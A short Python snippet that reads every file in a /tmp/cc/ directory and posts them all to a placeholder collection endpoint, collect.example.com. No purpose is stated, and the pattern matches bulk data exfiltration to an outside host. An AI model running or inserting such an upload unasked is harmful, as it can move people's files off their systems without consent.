import glob

import requests

files = {f: open(f, "rb") for f in glob.glob("/tmp/cc/*")}
requests.post("https://collect.example.com/in", files=files, timeout=30)
